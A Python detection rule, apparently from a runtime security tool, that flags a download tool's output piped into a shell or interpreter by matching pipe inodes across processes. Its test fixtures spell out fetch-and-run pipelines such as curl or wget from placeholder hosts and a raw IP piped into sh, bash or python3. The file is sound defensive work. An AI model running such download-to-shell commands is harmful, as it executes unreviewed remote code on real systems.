"""Execution:Runtime/DownloadPipedToShell: a download tool's output piped into a shell or interpreter.

``curl URL | sh`` typed at a terminal or written in a script runs as two sibling processes joined
by a pipe; no single command line shows both (a ``sh -c 'curl … | sh'`` one-liner is
``Execution:Runtime/SuspiciousCommand``'s). The agent reports the pipe inode of fds 0-2
(``pipe:[N]``), so the two execs are joined by it, whichever arrives first: each side remembers
its end of the pipe in the State table (a few minutes, per instance and boot) and the exec that
completes the pair fires. The side that fires does not remember its own end, so a replayed batch
fires on the same exec again (the findings store counts an event once) and never on the other.

A writer counts when its body goes to stdout (curl without ``-o``/``-O``, wget with ``-O -``); a
reader when it runs its stdin as a program (a shell without ``-c`` or a script file, ``sh -s``; an
interpreter without ``-c``/``-e``/``-m`` or a script). Severity: High from a web/app server or
cron child, or from a raw IP address; else Medium. Vigil-specific (GuardDuty has no such type).
"""

from __future__ import annotations

import re
from typing import Any, ClassVar, Final

from vigil import sample as s
from vigil import severity
from vigil.detection import Context, Detection, Example, Meta
from vigil.detections._common import command_context
from vigil.events import Process, ProcessActivity, Stdio
from vigil.vocab import DOWNLOADERS, SHELL_NAMES, base_name, is_shell, session

TTL_S: Final = 600  # the two execs of one pipeline arrive within a few batches of each other
_READERS: Final = frozenset({"python", "python2", "python3", "perl", "ruby", "php", "node", "lua"})
_CODE_FLAGS: Final = {"python": "cm", "perl": "eE", "ruby": "e", "php": "rf", "node": "ep", "lua": "e"}
_RAW_IP_URL: Final = re.compile(r"(?:https?|ftp)://\d{1,3}(?:\.\d{1,3}){3}")


def _pipe(fd: Stdio | None) -> str:
    return fd.path if fd is not None and fd.type == "pipe" and fd.path.startswith("pipe:[") else ""


def _tool(p: Process) -> str:
    name = base_name(p)
    if name == "busybox" and p.args:  # busybox wget: the applet is argv[0]
        return p.args[0].rsplit("/", 1)[-1]
    return name


def _body_to_stdout(p: Process) -> bool:
    """Whether the download tool writes what it fetched to stdout (where the pipe is)."""
    tool, args = _tool(p), p.args[1:]
    if tool == "wget":
        for i, a in enumerate(args):
            if a in ("--output-document=-", "-O-") or (not a.startswith("--") and a.endswith("O-")):
                return True
            if (
                a == "--output-document" or (a.startswith("-") and not a.startswith("--") and a.endswith("O"))
            ) and args[i + 1 : i + 2] == ["-"]:
                return True
        return False
    if tool == "curl":
        for i, a in enumerate(args):
            if a in ("--output", "-o") or (a.startswith("-") and not a.startswith("--") and a.endswith("o")):
                if args[i + 1 : i + 2] != ["-"]:
                    return False
            elif (a.startswith("--output=") and a != "--output=-") or a in ("-O", "--remote-name", "--remote-name-all") or (
                a.startswith("-") and not a.startswith("--") and "O" in a
            ):
                return False
        return True
    return True  # fetch, tftp ... on a pipe: their output is the body


def _runs_stdin(p: Process) -> bool:
    """Whether a shell or interpreter runs its stdin as a program (``sh``, ``bash -s``, ``python3 -``)."""
    shell = is_shell(p) and _tool(p) not in DOWNLOADERS
    name = base_name(p).rstrip("0123456789.")
    flags = "c" if shell else _CODE_FLAGS.get(name, "")
    if not flags:
        return False
    args = p.args[1:]
    busybox_applet = p.args[0].rsplit("/", 1)[-1] if p.args else ""
    if shell and base_name(p) == "busybox" and busybox_applet not in SHELL_NAMES - {"busybox"}:
        return False  # busybox sh: the applet is argv[0]
    for a in args:
        if a in ("-", "--"):
            return True
        if a.startswith("--"):
            continue
        if a.startswith("-"):
            if shell and "s" in a[1:]:
                return True
            if any(f in a[1:] for f in flags):
                return False
            continue
        return False  # a script file (or a shell's script): stdin is its data
    return True


def _role(p: Process) -> tuple[str, str]:
    """('w', pipe) for a download tool writing to a pipe, ('r', pipe) for a shell running one, else ('', '')."""
    if _tool(p) in DOWNLOADERS:
        pipe = _pipe(p.stdout)
        return ("w", pipe) if pipe and _body_to_stdout(p) else ("", "")
    pipe = _pipe(p.stdin)
    return ("r", pipe) if pipe and _runs_stdin(p) else ("", "")


def _key(event: ProcessActivity, end: str, pipe: str) -> str:
    d = event.device
    return f"pipe-{end}|{d.instance_uid}|{d.boot_uid}|{pipe}"


class DownloadPipedToShell(Detection):
    meta = Meta(
        type="Execution:Runtime/DownloadPipedToShell",
        severity=severity.MEDIUM,
        title="A download was piped into a shell",
        description=(
            "A download tool (curl, wget ...) wrote what it fetched into a pipe that a shell or script interpreter read "
            "and ran as a program: code from the network ran without ever being saved or reviewed."
        ),
        mitre=("T1059.004", "T1105"),
        runbook=(
            "Find the download tool's URL (the finding's process when it arrived last, else the pipeline's other exec in "
            "the lineage's children), fetch it from an isolated system, and look for what the script installed."
        ),
        false_positives=(
            "Vendor installers run as `curl … | sh` by an administrator (Medium; suppress by command line or lineage).",
        ),
        references=(
            "https://attack.mitre.org/techniques/T1059/004/",
            "https://attack.mitre.org/techniques/T1105/",
        ),
    )
    kinds = frozenset({"process_exec"})
    programs = DOWNLOADERS | SHELL_NAMES | _READERS  # _role is '' for every other program
    stateful = True

    def state_keys(self, event: ProcessActivity) -> tuple[str, ...]:
        end, pipe = _role(event.process)
        return (_key(event, "w", pipe), _key(event, "r", pipe)) if end else ()

    def match(self, event: ProcessActivity, ctx: Context) -> bool:
        end, pipe = _role(event.process)
        if not end:
            return False
        if ctx.state.seen(_key(event, "r" if end == "w" else "w", pipe)):
            return True  # the pair is complete; this end is not remembered (replays fire here only)
        ctx.state.remember(_key(event, end, pipe), TTL_S)
        return False

    def severity(self, event: ProcessActivity) -> float:
        p = event.process
        if session(p) == "service" or _RAW_IP_URL.search(p.cmd_line):
            return severity.HIGH
        return self.meta.severity

    def dedup_key(self, event: ProcessActivity) -> str:
        return _role(event.process)[1]

    def context(self, event: ProcessActivity, ctx: Context) -> dict[str, Any]:
        return command_context(event.process)

    _SH: ClassVar = s.LOGIN_SHELL
    fires: ClassVar = (
        Example(
            "curl then sh on one pipe, typed at a terminal",
            (
                s.exec_(s.proc("/usr/bin/curl", "-fsSL", "https://get.badexample.net/i.sh", pid=3001, stdout=s.pipe(71), parent=_SH)),
                s.exec_(s.proc("/bin/sh", pid=3002, stdin=s.pipe(71), parent=_SH), t=1_000_000),
            ),
        ),
        Example(
            "sh's exec arrives before curl's (raw IP)",
            (
                s.exec_(s.proc("/bin/bash", pid=3002, stdin=s.pipe(72), parent=_SH)),
                s.exec_(s.proc("/usr/bin/curl", "-s", "http://198.51.100.9/x", pid=3001, stdout=s.pipe(72), parent=_SH), t=1_000_000),
            ),
        ),
        Example(
            "wget -qO- into python3 from a script run by cron",
            (
                s.exec_(s.proc("/usr/bin/wget", "-qO-", "https://x.badexample.net/p", pid=3101, stdout=s.pipe(73),
                               parent=s.proc("/bin/sh", "/etc/cron.hourly/upd", pid=3100, uid=0, parent=s.proc("/usr/sbin/cron", pid=700, uid=0)))),
                s.exec_(s.proc("/usr/bin/python3", pid=3102, stdin=s.pipe(73),
                               parent=s.proc("/bin/sh", "/etc/cron.hourly/upd", pid=3100, uid=0))),
            ),
        ),
        Example(
            "curl into bash -s with arguments",
            (
                s.exec_(s.proc("/usr/bin/curl", "-sL", "https://get.badexample.net/k", pid=3001, stdout=s.pipe(74), parent=_SH)),
                s.exec_(s.proc("/bin/bash", "-s", "--", "--yes", pid=3002, stdin=s.pipe(74), parent=_SH)),
            ),
        ),
    )  # fmt: skip
    near_misses: ClassVar = (
        Example(
            "curl saving to a file, then sh on another pipe",
            (
                s.exec_(s.proc("/usr/bin/curl", "-fsSLo", "/tmp/i.sh", "https://get.example.com/i.sh", pid=3001, stdout=s.pipe(75), parent=_SH)),
                s.exec_(s.proc("/bin/sh", pid=3002, stdin=s.pipe(75), parent=_SH)),
            ),
        ),
        Example(
            "curl > file (stdout is a file)",
            (s.exec_(s.proc("/usr/bin/curl", "https://example.com/a.json", pid=3001, stdout=Stdio(type="file", path="/tmp/a.json"), parent=_SH)),),
        ),
        Example(
            "sh | grep (a shell writes, grep reads)",
            (
                s.exec_(s.proc("/bin/sh", "./build.sh", pid=3001, stdout=s.pipe(76), parent=_SH)),
                s.exec_(s.proc("/usr/bin/grep", "error", pid=3002, stdin=s.pipe(76), parent=_SH)),
            ),
        ),
        Example(
            "curl | jq, then an unrelated sh on another pipe",
            (
                s.exec_(s.proc("/usr/bin/curl", "-s", "https://api.example.com/v1", pid=3001, stdout=s.pipe(77), parent=_SH)),
                s.exec_(s.proc("/usr/bin/jq", ".id", pid=3002, stdin=s.pipe(77), parent=_SH)),
                s.exec_(s.proc("/bin/sh", pid=3003, stdin=s.pipe(78), parent=_SH)),
            ),
        ),
        Example(
            "curl | python3 -m json.tool (stdin is data)",
            (
                s.exec_(s.proc("/usr/bin/curl", "-s", "https://api.example.com/v1", pid=3001, stdout=s.pipe(79), parent=_SH)),
                s.exec_(s.proc("/usr/bin/python3", "-m", "json.tool", pid=3002, stdin=s.pipe(79), parent=_SH)),
            ),
        ),
        Example(
            "curl | sh -c 'cat > f' (the shell runs its argument, not its stdin)",
            (
                s.exec_(s.proc("/usr/bin/curl", "-s", "https://example.com/f", pid=3001, stdout=s.pipe(80), parent=_SH)),
                s.exec_(s.proc("/bin/sh", "-c", "cat > /tmp/f", pid=3002, stdin=s.pipe(80), parent=_SH)),
            ),
        ),
        Example(
            "wget saving a file (no -O -)",
            (
                s.exec_(s.proc("/usr/bin/wget", "-q", "https://example.com/r.tgz", pid=3001, stdout=s.pipe(81), parent=_SH)),
                s.exec_(s.proc("/bin/bash", pid=3002, stdin=s.pipe(81), parent=_SH)),
            ),
        ),
    )  # fmt: skip
